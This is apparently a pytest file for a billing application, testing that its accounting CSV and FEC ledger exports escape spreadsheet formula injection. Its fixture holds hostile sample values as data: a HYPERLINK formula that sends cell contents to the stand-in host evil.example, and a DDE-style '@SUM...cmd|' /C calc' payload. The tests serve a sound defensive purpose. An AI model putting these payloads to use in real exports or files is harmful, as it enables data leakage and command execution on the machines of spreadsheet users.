"""Spreadsheet formula injection: text cells of the CSV and the FEC never start a formula.

A member named ``=HYPERLINK(...)`` or a payment reference ``@SUM(...)`` is written
with a leading single quote (OWASP), while negative amounts stay numbers.
"""

import csv
import io
from datetime import date

import pytest

from billing import services
from billing.services import reports

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(make_member, issued_invoice):
    member = make_member("mallory", first_name="", last_name=HOSTILE_NAME, language="en")
    invoice = issued_invoice(member, "30.00", issued_on=date(2026, 3, 1))
    services.create_credit_note(invoice, actor=None, reason="Outage", amount="2")
    for reference in ("@SUM(1+1)*cmd|' /C calc'!A0", "+33 6 12", "-1+1", "\t=1+1"):
        services.record_payment(
            member,
            actor=None,
            amount="5",
            method="transfer",
            received_on=date(2026, 3, 2),
            reference=reference,
        )
    return member


def test_the_accounting_csv_neutralises_formula_cells_but_keeps_negative_amounts(hostile):
    rows = list(csv.reader(io.StringIO(reports.accounting_csv(2026)), delimiter=";"))
    text_cells = [cell for row in rows[1:] for index, cell in enumerate(row) if index != 5]
    assert any(cell == "'" + HOSTILE_NAME for cell in text_cells)
    assert any(cell == "'@SUM(1+1)*cmd|' /C calc'!A0" for cell in text_cells)
    assert any(cell == "'-1+1" for cell in text_cells)
    assert not [cell for cell in text_cells if cell.startswith(FORMULA_START)]
    amounts = [row[5] for row in rows[1:]]
    assert "-2,00" in amounts  # the credit note: still a number for the spreadsheet


def test_the_fec_neutralises_formula_text_fields_but_keeps_amounts(hostile):
    rows = [line.split("\t") for line in reports.fec(2026).split("\r\n") if line]
    assert all(len(row) == 18 for row in rows)
    text_fields = [
        value
        for row in rows[1:]
        for index, value in enumerate(row)
        if reports.FEC_COLUMNS[index] not in ("Debit", "Credit", "Montantdevise")
    ]
    assert "'" + HOSTILE_NAME in text_fields
    assert not [value for value in text_fields if value.startswith(FORMULA_START)]
    assert any(value.startswith("'@SUM") for value in text_fields)
    for row in rows[1:]:
        for amount in row[11:13]:
            assert amount.replace(",", "").isdigit()
